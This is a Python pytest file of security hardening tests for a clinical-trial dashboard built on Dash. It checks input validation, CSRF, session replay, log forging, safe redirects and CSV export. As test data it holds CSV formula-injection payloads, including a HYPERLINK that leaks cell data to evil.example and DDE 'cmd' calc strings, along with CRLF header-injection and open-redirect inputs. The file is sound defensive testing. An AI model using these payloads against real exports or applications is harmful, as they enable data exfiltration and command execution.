"""Hardening, second round: each test reproduces one attack of the hardening issue.

1. callback inputs are checked by position against the callback's declaration (a renamed id,
   damaged grid models, deep or broken JSON: 400, never 500);
2. the protocol-deviations search answers for any text;
3. a database that does not answer: grid rows and CSV export 503 with the message, the status
   form says it;
4. CSV exports neutralise formulas; comments are stored as typed;
5. a removed and re-added account never accepts an old cookie;
6. the audit trail and a finding's history print one line per entry, escapes escaped;
7. CSV imports refuse NUL bytes and empty files (file and line named);
8. one account cannot take every thread: its third page at once is answered, not computed;
9. CR/LF in `next`, logout by POST with the token, cross-site POSTs, locations in error texts,
   `findings set --user` for accounts only, the status-write rate limit, no `unsafe-eval`.
The generated fuzz test is tests/pages/test_fuzz.py.
"""

from __future__ import annotations

import csv
import io
import json
import shutil
import threading
import time
from typing import Any

import pytest

from app import create_app
from dashboard.cli import main
from tests.pages.helpers import call, find_callback, logged_in, logout


@pytest.fixture
def app(settings):
    return create_app(settings.with_(login_failure_delay_ms=0, cache_type="none"))


def concrete(raw: str, name: str) -> Any:
    """A declared id with its MATCH wildcard filled in (the component a browser would name)."""
    cid = json.loads(raw) if raw.startswith("{") else raw
    if isinstance(cid, dict):
        cid = {k: (name if isinstance(v, list) else v) for k, v in cid.items()}
    return cid


def body_for(
    app: Any, output: str, values: dict[str, Any], name: str = "adverse_events"
) -> dict[str, Any]:
    """A well-formed request for a callback (values by "id.prop"), to be damaged by a test."""
    key, spec = find_callback(app, output)

    def items(kind: str) -> list[dict[str, Any]]:
        out = []
        for i in spec[kind]:
            cid = concrete(i["id"], name)
            out.append(
                {
                    "id": cid,
                    "property": i["property"],
                    "value": values.get(f"{i['id']}.{i['property']}"),
                }
            )
        return out

    outputs = [
        {"id": concrete(part.rsplit(".", 1)[0], name), "property": part.rsplit(".", 1)[1]}
        for part in key.strip(".").split("...")
    ]
    inputs = items("inputs")
    first = inputs[0]["id"]
    named = (
        json.dumps(first, sort_keys=True, separators=(",", ":"))
        if isinstance(first, dict)
        else first
    )
    return {
        "output": key,
        "outputs": outputs if len(outputs) > 1 else outputs[0],
        "inputs": inputs,
        "state": items("state"),
        "changedPropIds": [f"{named}.{inputs[0]['property']}"],  # what triggered it
    }


def post(client: Any, body: Any) -> Any:
    data = body if isinstance(body, str) else json.dumps(body)
    return client.post("/_dash-update-component", data=data, content_type="application/json")


# 1 -----------------------------------------------------------------------------------------


def test_a_renamed_input_id_does_not_bypass_the_checks(app):
    client = logged_in(app)
    body = body_for(app, "shell-page.children", {})
    # The search input renamed: Dash would hand the dict to the router as `search`.
    body["inputs"][1] = {"id": "anything-else", "property": "search", "value": {"a": 1}}
    resp = post(client, body)
    assert resp.status_code == 400
    assert b"the callback declares shell-url.search here" in resp.data
    body = body_for(app, "shell-page.children", {})
    body["inputs"] = body["inputs"][:3]  # inputs cut short
    assert post(client, body).status_code == 400


def test_an_allow_duplicate_output_is_accepted_as_the_browser_names_it(app):
    """Dash's renderer names a duplicate output 'filterModel@<hash>': that is not malformed."""
    client = logged_in(app)
    body = body_for(app, "filterModel@", {"saf-toggles.value": ["serious"]})
    assert "@" in body["outputs"]["property"]  # as the renderer sends it
    resp = post(client, body)
    assert resp.status_code == 200, resp.data[:300]
    assert b'"filter":"sae"' in resp.data.replace(b" ", b"")


ROWS = "getRowsResponse"


def rows_body(app: Any, request: Any, name: str = "adverse_events") -> dict[str, Any]:
    body = body_for(app, ROWS, {}, name)
    body["inputs"][0]["value"] = request
    return body


def nested(depth: int) -> dict[str, Any]:
    f: dict[str, Any] = {"filterType": "text", "type": "contains", "filter": "x"}
    for _ in range(depth):
        f = {"filterType": "text", "operator": "AND", "conditions": [f]}
    return f


@pytest.mark.parametrize(
    "request_model",
    [
        {"startRow": 0, "endRow": 100, "filterModel": {"term": {"conditions": 5}}},
        {"startRow": 0, "endRow": 100, "filterModel": {"term": {"conditions": [1, 2]}}},
        {"startRow": 0, "endRow": 100, "filterModel": {"term": {"type": {"a": 1}}}},
        {"startRow": 0, "endRow": 100, "filterModel": {"term": nested(200)}},
        {"startRow": 10**30, "endRow": 10**30 + 100},
        {"startRow": 0, "endRow": 100, "sortModel": [{"colId": "nope", "sort": "asc"}]},
        {"startRow": 0, "endRow": 100, "filterModel": {"no_such_column": {"filter": "x"}}},
    ],
)
def test_damaged_grid_models_are_refused_whole(app, request_model):
    client = logged_in(app)
    assert post(client, rows_body(app, request_model)).status_code == 400


def test_a_real_grid_request_still_passes(app):
    client = logged_in(app)
    model = {
        "startRow": 0,
        "endRow": 100,
        "sortModel": [{"colId": "onset_on", "sort": "desc"}],
        "filterModel": {
            "term": {
                "filterType": "text",
                "operator": "OR",
                "conditions": [
                    {"filterType": "text", "type": "contains", "filter": "pain"},
                    {"filterType": "text", "type": "contains", "filter": "fracture"},
                ],
            },
            "grade": {"filterType": "number", "type": "greaterThanOrEqual", "filter": 3},
        },
    }
    resp = post(client, rows_body(app, model))
    assert resp.status_code == 200
    rows = resp.get_json()["response"][next(iter(resp.get_json()["response"]))][ROWS]["rowData"]
    assert rows and all(r["grade"] >= 3 for r in rows)


@pytest.mark.parametrize(
    "damage",
    ["deep_json", "changed_not_a_list", "output_without_property", "input_without_id"],
)
def test_structurally_damaged_bodies_are_400(app, damage):
    client = logged_in(app)
    body: Any = body_for(app, "shell-page.children", {})
    if damage == "deep_json":
        body = "[" * 5000 + "]" * 5000
    elif damage == "changed_not_a_list":
        body["changedPropIds"] = 5
    elif damage == "output_without_property":
        body["outputs"] = [{"id": "shell-page"}]
    else:
        del body["inputs"][0]["id"]
    assert post(client, body).status_code == 400


# 2 -----------------------------------------------------------------------------------------


def test_the_deviations_search_answers_for_any_text(app):
    client = logged_in(app)
    for text in ("pain", "consent", "是", "%_\\", ""):
        model = {
            "startRow": 0,
            "endRow": 100,
            "filterModel": {"_search": {"filterType": "text", "filter": text}},
        }
        assert post(client, rows_body(app, model, "deviations")).status_code == 200, text


# 3 -----------------------------------------------------------------------------------------


def test_a_database_gone_answers_503_with_the_message_and_no_path(tmp_path, sqlite_url, settings):
    copy = tmp_path / "copy.sqlite"
    shutil.copy(sqlite_url.split(":///", 1)[1], copy)
    app = create_app(settings.with_(db_url=f"sqlite:///{copy}", cache_type="none"))
    client = logged_in(app)
    copy.unlink()
    resp = post(client, rows_body(app, {"startRow": 0, "endRow": 100}))
    assert resp.status_code == 503
    said = resp.get_json()["message"]
    assert "does not exist" in said and str(copy) not in said and "copy.sqlite" not in said
    resp = client.get("/export/adverse_events.csv")
    assert resp.status_code == 503 and b"does not exist" in resp.data
    out = call(
        client,
        app,
        "dq-wf-result.children",
        {"dq-wf-save.n_clicks": 1, "dq-wf-key.value": "k", "dq-wf-status.value": "closed"},
        ["dq-wf-save.n_clicks"],
    )
    assert "does not exist" in json.dumps(out)
    page = call(
        client,
        app,
        "shell-page.children",
        {"shell-url.pathname": "/", "shell-url.search": ""},
        ["shell-url.pathname"],
    )
    assert "copy.sqlite" not in json.dumps(page)


# 4 -----------------------------------------------------------------------------------------

FORMULAS = (
    '=HYPERLINK("http://evil.example/leak?"&A2,"details")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
)


def test_csv_exports_neutralise_formulas_and_comments_are_kept_as_typed(app):
    from dashboard.workflow import FindingStore

    client = logged_in(app)
    key = first_finding_key(app, client)
    store = FindingStore(app.server.extensions["trial_users"].engine)
    for comment in FORMULAS:
        store.set(key, "query_sent", "pi", comment)
    assert store.history(key)[-1].comment == "\t=1+1"  # stored as typed
    for text in FORMULAS[:-1]:
        store.set(key, "query_sent", "pi", text)
        resp = client.get('/export/findings.csv?filter={"key":{"filter":"' + key + '"}}')
        assert resp.status_code == 200
        rows = list(csv.DictReader(io.StringIO(resp.get_data(as_text=True).lstrip("\ufeff"))))
        cell = next(r for r in rows if r["Key"] == key)["Last comment"]
        assert cell == "'" + text, cell


def first_finding_key(app: Any, client: Any) -> str:
    resp = post(client, rows_body(app, {"startRow": 0, "endRow": 10}, "findings"))
    resp = resp.get_json()["response"]
    return str(resp[next(iter(resp))][ROWS]["rowData"][0]["key"])


# 5 -----------------------------------------------------------------------------------------


def test_a_removed_then_added_account_refuses_the_old_cookie(app):
    store = app.server.extensions["trial_users"]
    store.add("ghost", "ghost-password-1", "site", ["PKU"])
    from tests.pages.helpers import EXTRA_PASSWORDS, login

    EXTRA_PASSWORDS["ghost"] = "ghost-password-1"
    client = login(app.server.test_client(), "ghost")
    assert client.get("/_dash-layout").status_code == 200
    cookie = client.get_cookie("session").value
    store.remove("ghost")
    store.add("ghost", "ghost-password-2", "pi")
    replay = app.server.test_client()
    replay.set_cookie("session", cookie)
    assert replay.get("/_dash-layout").status_code == 401
    assert replay.get("/export/adverse_events.csv").status_code == 302  # to the login page


# 6 -----------------------------------------------------------------------------------------


def test_audit_and_history_print_one_line_per_entry(app, settings, monkeypatch, capsys):
    from dashboard.workflow import FindingStore

    monkeypatch.setenv("TRIAL_INSTANCE_DIR", str(settings.instance_dir))
    monkeypatch.setenv("TRIAL_USERS_DB_URL", settings.resolved_users_db_url)
    c = app.server.test_client()
    page = c.get("/login").get_data(as_text=True)
    token = page.split('name="csrf_token" value="')[1].split('"')[0]
    forged = "x\n2026-12-07 10:00:00  pi             login"
    c.post("/login", data={"csrf_token": token, "username": forged, "password": "nope"})
    assert main(["audit"]) == 0
    out = capsys.readouterr().out
    assert all(not line.startswith("2026-12-07 10:00:00") for line in out.splitlines())
    assert "x\\n2026-12-07" in out
    store = FindingStore(app.server.extensions["trial_users"].engine)
    store.set("k1", "answered", "site-pku", "fixed\n2026-12-07 10:00  pi1  closed\x1b[2J")
    assert main(["findings", "history", "k1"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert len(lines) == 1 and "\\n2026-12-07" in lines[0] and "\\x1b[2J" in lines[0]
    assert "\x1b" not in lines[0]


# 7 -----------------------------------------------------------------------------------------


def test_csv_imports_refuse_nul_bytes_and_empty_files(tmp_path, capsys):
    from tests.pages.test_any_trial import FIXTURE

    for case in ("nul", "empty"):
        folder = tmp_path / case
        shutil.copytree(FIXTURE, folder)
        if case == "nul":
            ae = folder / "adverse_events.csv"
            lines = ae.read_bytes().split(b"\n")
            lines[3] = lines[3].replace(b",", b"\x00\x00,", 1)
            ae.write_bytes(b"\n".join(lines))
        else:
            (folder / "subjects.csv").write_bytes(b"")
        target = tmp_path / f"{case}.sqlite"
        assert main(["import", "csv", str(folder), "--db", f"sqlite:///{target}"]) == 1
        err = capsys.readouterr().err
        assert "Traceback" not in err
        if case == "nul":
            assert "adverse_events.csv, row 3: holds a NUL byte" in err, err
        else:
            assert "subjects.csv: the file is empty" in err, err
        assert not target.exists()


# 8 -----------------------------------------------------------------------------------------


def test_one_account_computes_at_most_its_share_of_pages_at_once(app, monkeypatch):
    import dashboard.pages.recruitment as recruitment

    running, most = [0], [0]
    lock = threading.Lock()
    model = recruitment.recruitment_for

    def slow(ctx: Any) -> Any:  # the page's computation, made slow and counted
        with lock:
            running[0] += 1
            most[0] = max(most[0], running[0])
        time.sleep(0.3)
        try:
            return model(ctx)
        finally:
            with lock:
                running[0] -= 1

    monkeypatch.setattr(recruitment, "recruitment_for", slow)
    client = logged_in(app)
    answers: list[str] = []

    def view(i: int) -> None:
        out = call(
            logged_in(app) if i % 2 else client,
            app,
            "shell-page.children",
            {"shell-url.pathname": "/", "shell-url.search": f"?as_of=2026-10-{i + 1:02d}"},
            ["shell-url.pathname"],
        )
        answers.append(json.dumps(out))

    threads = [threading.Thread(target=view, args=(i,)) for i in range(8)]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    assert most[0] <= 2
    busy = sum("page-busy" in a for a in answers)
    assert busy >= 4  # 8 views of one account (pi), 2 computed at a time
    # another account is not kept waiting
    other = call(
        logged_in(app, "monitor-sh1"),
        app,
        "shell-page.children",
        {"shell-url.pathname": "/", "shell-url.search": ""},
        ["shell-url.pathname"],
    )
    assert "page-busy" not in json.dumps(other)


# 9 -----------------------------------------------------------------------------------------


def test_next_with_cr_lf_goes_home(app):
    from dashboard.auth.web import safe_next

    assert safe_next("/safety\r\nSet-Cookie: a=b") == "/"
    assert safe_next("/\\evil.example") == "/"
    assert safe_next("//evil.example/x") == "/"
    assert safe_next("/safety?center=SH1") == "/safety?center=SH1"


def test_logout_is_a_post_with_the_token(app):
    client = logged_in(app)
    assert client.get("/logout").status_code == 405
    assert client.post("/logout", data={"csrf_token": "forged"}).status_code == 400
    assert client.get("/_dash-layout").status_code == 200  # still signed in
    assert logout(client).status_code == 302
    assert client.get("/_dash-layout").status_code == 401


def test_cross_site_posts_are_refused(app):
    client = logged_in(app)
    body = body_for(app, "shell-page.children", {"shell-url.pathname": "/"})
    evil = {"Origin": "http://evil.example"}
    resp = client.post(
        "/_dash-update-component",
        data=json.dumps(body),
        content_type="application/json",
        headers=evil,
    )
    assert resp.status_code == 403
    same = {"Origin": "http://localhost"}
    resp = client.post(
        "/_dash-update-component",
        data=json.dumps(body),
        content_type="application/json",
        headers=same,
    )
    assert resp.status_code == 200
    resp = client.post(
        "/logout", data={"csrf_token": "x"}, headers={"Referer": "http://evil.example/page"}
    )
    assert resp.status_code == 403


def test_findings_set_needs_an_existing_account(settings, monkeypatch, capsys):
    monkeypatch.setenv("TRIAL_INSTANCE_DIR", str(settings.instance_dir))
    monkeypatch.setenv("TRIAL_USERS_DB_URL", settings.resolved_users_db_url)
    args = ["findings", "set", "k2", "--status", "closed", "--comment", "ok"]
    assert main([*args, "--user", "nobody-at-all"]) == 2
    assert "no user nobody-at-all" in capsys.readouterr().err
    assert main([*args, "--user", "pi"]) == 0


def test_status_writes_are_rate_limited(app):
    from dashboard.workflow import WRITES_PER_MINUTE, FindingStore

    client = logged_in(app)
    key = first_finding_key(app, client)
    store = FindingStore(app.server.extensions["trial_users"].engine)
    for _ in range(WRITES_PER_MINUTE):
        store.set(key, "query_sent", "pi", "again")
    out = call(
        client,
        app,
        "dq-wf-result.children",
        {
            "dq-wf-save.n_clicks": 1,
            "dq-wf-key.value": key,
            "dq-wf-status.value": "query_sent",
            "dq-wf-comment.value": "one more",
        },
        ["dq-wf-save.n_clicks"],
    )
    assert "changes in a minute" in json.dumps(out)
    assert len(store.history(key)) == WRITES_PER_MINUTE


def test_the_content_security_policy_has_no_eval(app):
    resp = app.server.test_client().get("/login")
    assert "unsafe-eval" not in resp.headers["Content-Security-Policy"]
